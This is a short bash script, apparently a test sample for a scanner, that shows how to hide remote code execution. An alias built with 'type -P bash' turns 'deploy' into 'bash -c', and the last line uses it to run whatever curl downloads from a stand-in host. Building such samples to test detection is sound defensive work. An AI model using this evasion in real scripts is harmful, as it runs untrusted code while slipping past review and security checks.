#!/usr/bin/env bash
# Evasion: an alias whose program is a path looked up with type -P: the
# alias "deploy" is "$(type -P bash) -c", so `deploy "$(curl ...)"` runs the
# download with bash -c, though no shell is named in the script.
shopt -s expand_aliases
alias deploy="$(type -P bash) -c"
deploy "$(curl -fsS https://deploy.example.net/step)"
